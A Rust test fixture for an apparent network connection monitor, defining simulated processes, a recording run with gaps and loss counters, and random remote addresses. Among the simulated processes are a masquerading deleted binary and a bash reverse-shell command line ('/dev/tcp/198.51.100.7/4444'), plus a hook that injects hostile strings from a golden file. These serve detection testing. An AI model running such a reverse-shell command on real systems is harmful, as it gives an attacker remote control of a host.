//! Who takes part: the recording, its processes and the addresses that they talk to.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::sync::Arc;

use connmon_enrich::geo::Geo;
use connmon_record::AddressKind;
use connmon_record::{Direction, Gap, LossCounters, Process, ProcessId, Reconciliation, Run, Timestamp};

use connmon_fixtures::Random;

pub const START: i64 = 1_781_769_600_000_000_000;
pub const HOURS: i64 = 3_600_000_000_000;

/// Name, executable, command line, user, port, how often, typical bytes sent and received, direction.
pub type Kind = (&'static str, &'static str, &'static str, &'static str, u16, u32, u64, u64, Direction);
pub const KINDS: &[Kind] = &[
    (
        "firefox",
        "/usr/lib/firefox/firefox",
        "/usr/lib/firefox/firefox -new-window",
        "mira",
        443,
        30,
        9_000,
        420_000,
        Direction::Out,
    ),
    (
        "thunderbird",
        "/usr/lib/thunderbird/thunderbird",
        "/usr/lib/thunderbird/thunderbird",
        "mira",
        993,
        5,
        6_000,
        90_000,
        Direction::Out,
    ),
    ("nginx", "/usr/sbin/nginx", "nginx: worker process", "www-data", 443, 26, 310_000, 4_000, Direction::In),
    ("sshd", "/usr/sbin/sshd", "sshd: [accepted]", "root", 22, 12, 5_000, 3_000, Direction::In),
    (
        "systemd-resolve",
        "/usr/lib/systemd/systemd-resolved",
        "/usr/lib/systemd/systemd-resolved",
        "systemd-resolve",
        53,
        30,
        60,
        210,
        Direction::Out,
    ),
    ("chronyd", "/usr/sbin/chronyd", "/usr/sbin/chronyd -F 1", "_chrony", 123, 6, 480, 480, Direction::Out),
    ("apt-get", "/usr/bin/apt-get", "apt-get -qq update", "_apt", 80, 5, 2_000, 3_200_000, Direction::Out),
    (
        "restic",
        "/usr/bin/restic",
        "restic backup /srv --tag nightly --exclude-caches",
        "root",
        443,
        3,
        88_000_000,
        140_000,
        Direction::Out,
    ),
    (
        "postgres",
        "/usr/lib/postgresql/16/bin/postgres",
        "postgres: 16/main: walreceiver streaming",
        "postgres",
        5432,
        5,
        9_000,
        700_000,
        Direction::Out,
    ),
    (
        "node",
        "/usr/bin/node",
        "node /srv/app/server.js --port 3000",
        "app",
        443,
        9,
        21_000,
        64_000,
        Direction::Out,
    ),
    (
        "curl",
        "/usr/bin/curl",
        "curl -fsSL https://example.org/status.json",
        "mira",
        443,
        5,
        700,
        14_000,
        Direction::Out,
    ),
    (
        "git-remote-http",
        "/usr/lib/git-core/git-remote-https",
        "git-remote-https origin https://git.example.net/team/app.git",
        "mira",
        443,
        3,
        40_000,
        5_100_000,
        Direction::Out,
    ),
    (
        "avahi-daemon",
        "/usr/sbin/avahi-daemon",
        "avahi-daemon: running [kestrel.local]",
        "avahi",
        5353,
        4,
        900,
        2_400,
        Direction::Out,
    ),
    (
        "python3",
        "/usr/bin/python3.11",
        "python3 -m scraper --workers 8 --out /srv/data/crawl",
        "app",
        443,
        16,
        3_000,
        55_000,
        Direction::Out,
    ),
    (
        "exim4",
        "/usr/sbin/exim4",
        "/usr/sbin/exim4 -bd -q30m",
        "Debian-exim",
        25,
        4,
        22_000,
        3_000,
        Direction::Out,
    ),
    (
        "prometheus",
        "/usr/bin/prometheus",
        "/usr/bin/prometheus --web.listen-address=127.0.0.1:9090",
        "prometheus",
        9100,
        9,
        400,
        48_000,
        Direction::Out,
    ),
    (
        "tailscaled",
        "/usr/sbin/tailscaled",
        "/usr/sbin/tailscaled --state=/var/lib/tailscale/tailscaled.state",
        "root",
        41641,
        7,
        130_000,
        150_000,
        Direction::Out,
    ),
    ("kworker/u8:2", "", "", "root", 2049, 2, 70_000, 900_000, Direction::Out),
    ("x", "/tmp/.cache/x (deleted)", "[kthreadd]", "www-data", 8443, 3, 410_000, 2_100, Direction::Out),
    (
        "bash",
        "/usr/bin/bash",
        "bash -c exec 3<>/dev/tcp/198.51.100.7/4444",
        "www-data",
        4444,
        1,
        2_048,
        911,
        Direction::Out,
    ),
];

pub fn run(lossy: bool, geo: &Geo) -> Run {
    let gap = Gap {
        from: Timestamp(START + 5 * HOURS),
        to: Timestamp(START + 5 * HOURS + 90_000_000_000),
        reason: "connmon was killed and started again".into(),
    };
    let lost = LossCounters {
        lost_events: 1_204,
        lost_connections: 1_100,
        lost_processes: 104,
        unattributed_rx_bytes: 48_112,
        ..LossCounters::default()
    };
    let reconciliation = Reconciliation {
        compared: 1_377,
        equal: 1_371,
        tx_undelivered_bytes: 8_310,
        rx_unread_bytes: 412,
        unexplained: 0,
    };
    Run {
        id: 1,
        host: "kestrel".into(),
        boot_id: "3f0a9c1e-7c1b-4b5e-9a35-0d6f0a8e2b11".into(),
        kernel: "6.12.48+deb13-amd64".into(),
        tool_version: "0.1.0".into(),
        object_sha256: "9f2c4e0b7d6a1c3358e0f4a2b1d7c9e86f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c".into(),
        backend: "fentry".into(),
        backend_notes: vec!["kprobe: not needed, fentry was accepted".into()],
        geo: geo.about(),
        location: None,
        started: Timestamp(START),
        ended: Some(Timestamp(START + 9 * HOURS)),
        last_flush: Timestamp(START + 9 * HOURS),
        going_on: false,
        completeness: LossCounters { reconciliation, ..if lossy { lost } else { LossCounters::default() } },
        gaps: if lossy { vec![gap] } else { Vec::new() },
        clock_steps: Vec::new(),
        late_reads: Vec::new(),
        left_out: None,
        pruned: None,
        rules: Vec::new(),
        lists: Vec::new(),
    }
}

pub fn processes(hostile: bool) -> Vec<Arc<Process>> {
    // The table that every sink is held to.
    const TABLE: &str = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/../tests/golden/hostile.json"));
    let table: Vec<serde_json::Value> = serde_json::from_str(TABLE).unwrap_or_default();
    let process = |(i, kind): (usize, &Kind)| {
        let text = |text: &str, number: usize| match table[number % table.len()]["text"].as_str() {
            Some(attack) if hostile => attack.to_owned(),
            _ => text.to_owned(),
        };
        Arc::new(Process {
            id: ProcessId {
                pid: 400 + 613 * i as u32 % 30_000,
                start_ns: 9_000_000_000 * (1 + i as u64 * i as u64),
            },
            started: Timestamp(START - 9 * HOURS + 9_000_000_000 * (1 + i as i64 * i as i64)),
            ppid: 1,
            comm: text(kind.0, 2 * KINDS.len() + i).into(),
            exe: text(kind.1, 2 * i).into(),
            cmdline: text(kind.2, i).into(),
            uid: if kind.3 == "root" { 0 } else { 1000 + i as u32 },
            user: Some(text(kind.3, 2 * i + 1).into()),
            kernel_thread: kind.1.is_empty(),
            ..Process::default()
        })
    };
    KINDS.iter().enumerate().map(process).collect()
}

/// Public addresses of some sixty countries, a few each; they are data only, nobody is asked.
pub fn remotes(geo: &Geo, random: &mut Random) -> Vec<(IpAddr, Option<String>)> {
    let wanted = "US US US US DE DE DE NL NL FR GB IE SE FI CH AT PL CZ IT ES PT RO BG UA RU TR IL AE SA IN IN SG SG JP JP KR TW HK CN CN \
        VN TH MY ID PH AU NZ ZA KE NG EG MA GH BR BR AR CL CO PE MX CA CA IS NO DK EE LV LT GR HU RS KZ PK BD EC UY";
    let mut found = Vec::new();
    for code in wanted.split_whitespace() {
        loop {
            let v6 = random.below(5) == 0;
            let ip = if v6 {
                IpAddr::V6(Ipv6Addr::from(
                    (0x2a00_u128 + u128::from(random.below(0x20))) << 112
                        | u128::from(random.number()) << 48
                        | 1,
                ))
            } else {
                IpAddr::V4(Ipv4Addr::from((random.number() >> 16) as u32))
            };
            if AddressKind::of_address(ip) == AddressKind::Public && geo.country(ip) == Some(code) {
                found.push((ip, Some(code.to_owned())));
                break;
            }
        }
    }
    found
}
